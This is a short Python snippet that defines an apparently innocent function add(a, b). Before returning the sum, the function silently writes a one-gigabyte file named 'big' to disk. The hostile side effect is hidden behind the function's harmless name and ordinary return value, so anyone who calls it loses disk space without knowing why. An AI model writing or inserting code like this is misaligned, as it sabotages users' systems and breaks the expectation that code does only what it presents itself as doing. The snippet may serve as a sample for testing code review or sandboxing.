def add(a, b):
    with open("big", "wb") as file:
        for _ in range(1024):
            file.write(b"x" * 1024 * 1024)
    return a + b
